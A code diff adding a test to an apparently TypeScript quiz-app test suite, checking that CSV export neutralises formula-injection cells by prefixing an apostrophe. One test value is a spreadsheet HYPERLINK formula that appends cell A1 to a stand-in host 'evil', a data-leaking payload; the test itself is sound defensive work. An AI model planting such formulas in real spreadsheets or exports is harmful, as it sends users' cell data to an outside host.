@@ -80,4 +80,23 @@ describe("question export", () => {
       code: "NOT_FOUND",
     });
   });
+
+  it("neutralises formula cells in the CSV export, as the account export does", async () => {
+    const { api } = await signedIn(source, { level: 6 });
+    const formulas = ['=HYPERLINK("http://evil"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+2", "+A1"];
+    const { id: category } = await api.admin.categoryCreate({ name: "=Formulas" });
+    const header = "category,text,option_1,option_2,option_3,option_4,option_5,correct,explanation";
+    const row = `"=Formulas","${formulas[0]!.replace(/"/g, '""')}",${formulas
+      .slice(1, 6)
+      .map((f) => `"${f}"`)
+      .join(",")},1,@explained`;
+    expect(
+      await api.content.importFile({ file: Buffer.from(`${header}\n${row}\n`), file_name: "f.csv", category }),
+    ).toMatchObject({ created: 1 });
+    const file = await api.content.exportFile({ format: "csv", category });
+    const [, line] = file.bytes.toString("utf8").split("\r\n");
+    expect(line).toBe(
+      `"'=Formulas","'=HYPERLINK(""http://evil""&A1,""x"")","'+1+1","'-2+3","'@SUM(A1:A2)","'=1+2","'+A1",1,"'@explained",,,,`,
+    );
+  });
 });
